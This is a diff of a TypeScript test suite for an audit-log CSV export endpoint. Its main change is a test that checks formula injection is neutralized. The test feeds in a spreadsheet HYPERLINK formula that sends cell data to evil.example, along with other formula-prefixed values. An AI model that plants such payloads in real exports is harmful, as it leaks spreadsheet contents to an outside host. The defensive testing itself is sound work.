@@ -8,6 +8,7 @@ import { describe, expect, it } from 'vitest'
 import { AUDIT_EVENT_TYPES } from '../src/audit/audit.events.js'
 import type { AdminUser, AuditEventInfo } from '../src/http/api.schemas.js'
 import { AUDIT_EXPORT_MAX_ROWS } from '../src/http/audit.routes.js'
+import { neutralizeFormula } from '../src/http/csv.js'
 import { parseCsv } from './csv-reader.js'
 import {
   ON_REDIS,
@@ -97,9 +98,7 @@ function expectedCells(event: AuditEventInfo): string[] {
     event.ip,
     event.userAgent,
     event.detail ? JSON.stringify(event.detail) : null,
-  ]
-    .map(text)
-    .map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell))
+  ].map((value) => (typeof value === 'string' ? neutralizeFormula(value) : text(value)))
 }
 
 async function exportCsv(
@@ -375,7 +374,7 @@ describe('GET /api/admin/audit/export/', () => {
     if (!ON_REDIS) expect(stamp).toBe('20260101T061500Z')
     expect(headers['content-disposition']).toBe(`attachment; filename="sesame-audit-${stamp}.csv"`)
     expect(headers['cache-control']).toBe('no-store')
-    expect(body.startsWith(`${CSV_HEADER.join(',')}\r\n`)).toBe(true)
+    expect(body.startsWith(`${CSV_HEADER.map((name) => `"${name}"`).join(',')}\r\n`)).toBe(true)
     expect(records[0]).toEqual(CSV_HEADER)
     expect(records.slice(1)).toEqual(events.map(expectedCells))
     // Quoted where RFC 4180 says: the user agent's comma and quotes, the detail's JSON.
@@ -403,9 +402,12 @@ describe('GET /api/admin/audit/export/', () => {
   it('neutralizes formulas an attacker typed as a username or user agent', async () => {
     const { ctx, as } = await cast()
     const attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    // A name no account has is stored as a digest (issue #13 item 7); the user agent as sent.
     const failed = await login(ctx, attack, 'whatever', { 'user-agent': '@SUM(1)' })
     expect(failed.response.statusCode).toBe(400)
+    await createUser(ctx, '+cmd')
     await login(ctx, '+cmd', 'whatever', { 'user-agent': '-2+3' })
+    await login(ctx, 'nobody', 'whatever', { 'user-agent': attack })
     const { records, body } = await exportCsv(ctx, as.root)
     for (const record of records) {
       for (const cell of record) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
@@ -498,7 +500,7 @@ describe('GET /api/admin/audit/export/', () => {
     const lines = response.body.split('\r\n')
     expect(lines.at(-1)).toBe('')
     expect(lines).toHaveLength(AUDIT_EXPORT_MAX_ROWS + 2)
-    const ats = lines.slice(1, -1).map((line) => Date.parse(line.split(',')[1] ?? ''))
+    const ats = lines.slice(1, -1).map((line) => Date.parse(line.split(',')[1]?.slice(1, -1) ?? ''))
     expect(ats[0]).toBe(total)
     expect(ats.at(-1)).toBe(2)
     expect(ats.every((at, index) => at === total - index)).toBe(true)
@@ -515,6 +517,7 @@ describe('OpenAPI', () => {
     const exported = paths['/api/admin/audit/export/'].get
     expect(exported.responses['200'].content['text/csv'].schema).toMatchObject({ type: 'string' })
     expect(exported.parameters.map((p: { name: string }) => p.name).sort()).toEqual([
+      'bom',
       'since',
       'type',
       'until',
